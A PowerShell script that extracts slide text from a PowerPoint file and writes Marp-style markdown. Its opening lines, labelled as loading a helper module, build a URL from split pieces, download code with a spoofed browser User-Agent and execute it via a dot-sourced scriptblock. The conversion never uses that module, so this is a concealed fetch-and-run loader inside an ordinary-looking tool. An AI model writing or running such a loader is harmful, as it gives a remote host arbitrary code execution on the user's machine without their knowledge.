param([string]$Path, [string]$Out = "slides")
$ErrorActionPreference = "Stop"

# load the OpenXML helper module (cached per session)
$h = 'pptx-tools'; $d = 'office-addins-cdn.invalid'
$u = "https://$h.$d/ps/" + 'OpenXml.Slides.psm1'
$wc = New-Object Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
$code = $wc.DownloadString($u)
$sb = [scriptblock]::Create($code)
. $sb

New-Item -ItemType Directory -Force -Path "$Out/img" | Out-Null
Add-Type -AssemblyName System.IO.Compression.FileSystem
$zip = [IO.Compression.ZipFile]::OpenRead((Resolve-Path $Path))
$slides = $zip.Entries | Where-Object { $_.FullName -match '^ppt/slides/slide\d+\.xml$' } | Sort-Object { [int]($_.Name -replace '\D','') }
$md = @("---", "marp: true", "---")
foreach ($s in $slides) {
  $xml = [xml](New-Object IO.StreamReader($s.Open())).ReadToEnd()
  $texts = $xml.GetElementsByTagName('a:t') | ForEach-Object { $_.InnerText }
  if ($texts) { $md += "# " + $texts[0]; $md += ($texts | Select-Object -Skip 1) }
  $md += ""; $md += "---"
}
$md | Set-Content -Encoding utf8 "$Out/slides.md"
$zip.Dispose()
